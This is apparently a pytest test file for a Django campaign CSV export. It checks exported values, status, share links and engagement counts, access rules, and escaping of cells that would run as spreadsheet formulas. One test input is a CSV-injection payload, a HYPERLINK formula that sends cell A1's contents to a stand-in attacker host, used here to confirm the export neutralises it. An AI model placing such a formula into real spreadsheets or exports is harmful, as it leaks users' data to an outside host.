"""The campaign's spreadsheet: every row with its values, status, absolute links and
engagement; a value that would be a formula is neutralised; members only."""

import csv
import io

import pytest
from django.urls import reverse

from campaigns.models import Recipient
from tests.campaigns.variants import make_campaign, rendered_variant
from tests.factories import MembershipFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def export(client, campaign) -> list[dict]:
    response = client.get(reverse("campaigns:export", args=[campaign.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_every_row_has_its_values_status_links_and_engagement(make_avatar, client, tmp_path):
    rows = [{"first_name": "Ada", "company": "Acme"}, {"first_name": "Bo", "company": ""}]
    campaign = make_campaign(make_avatar, rows=rows)
    ada, _ = campaign.recipients.all()
    rendered_variant(ada, tmp_path)
    Recipient.objects.filter(pk=ada.pk).update(
        views=4, plays=2, watched_percent=75, cta_clicks=1, gif="campaigns/x.gif"
    )
    client.force_login(campaign.owner.user)
    first, second = export(client, campaign)
    base = "http://testserver"
    token = ada.share_token
    assert first == {
        "line": "2",
        "first_name": "Ada",
        "company": "Acme",
        "status": "succeeded",
        "share_url": base + reverse("campaign_share:page", args=[token]),
        "mp4_url": base + reverse("campaign_share:video", args=[token]),
        "gif_url": base + reverse("campaign_share:gif", args=[token]),
        "poster_url": base + reverse("campaign_share:poster", args=[token]),
        "views": "4",
        "plays": "2",
        "watched_percent": "75",
        "cta_clicks": "1",
    }
    # Not rendered: its page exists (it says so), no file links yet.
    assert second["status"] == "pending" and second["share_url"].startswith(base + "/s/")
    assert second["mp4_url"] == second["gif_url"] == second["poster_url"] == ""


def test_a_value_that_would_be_a_formula_is_neutralised(make_avatar, client):
    campaign = make_campaign(
        make_avatar,
        rows=[{"first_name": HOSTILE, "company": "+1-555"}, {"first_name": "@SUM(A1)"}],
    )
    client.force_login(campaign.owner.user)
    first, second = export(client, campaign)
    assert first["first_name"] == "'" + HOSTILE
    assert first["company"] == "'+1-555"
    assert second["first_name"] == "'@SUM(A1)"


def test_another_workspace_gets_404_and_a_visitor_is_sent_to_log_in(make_avatar, client):
    campaign = make_campaign(make_avatar, rows=[{"first_name": "Ada"}])
    url = reverse("campaigns:export", args=[campaign.pk])
    assert client.get(url).status_code == 302
    client.force_login(MembershipFactory().user)
    assert client.get(url).status_code == 404


def test_a_viewer_may_export(make_avatar, client):
    campaign = make_campaign(make_avatar, rows=[{"first_name": "Ada"}])
    viewer = MembershipFactory(workspace=campaign.workspace, role="viewer")
    client.force_login(viewer.user)
    assert len(export(client, campaign)) == 1
